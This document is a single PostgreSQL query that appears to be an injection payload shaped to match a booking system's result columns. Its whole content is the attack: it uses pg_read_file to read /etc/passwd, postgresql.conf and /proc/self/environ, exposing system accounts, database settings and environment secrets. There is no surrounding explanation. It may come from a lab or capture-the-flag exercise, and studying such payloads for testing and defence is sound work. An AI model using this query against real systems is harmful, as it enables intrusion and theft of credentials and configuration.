SELECT 'FOU' || 'ND ' || pg_read_file(file) AS room, DATE '2027-06-01' AS first_night, DATE '2027-06-02' AS last_night, 1 AS nights
FROM unnest(ARRAY['/etc/passwd', 'postgresql.conf', '/proc/self/environ']) AS file
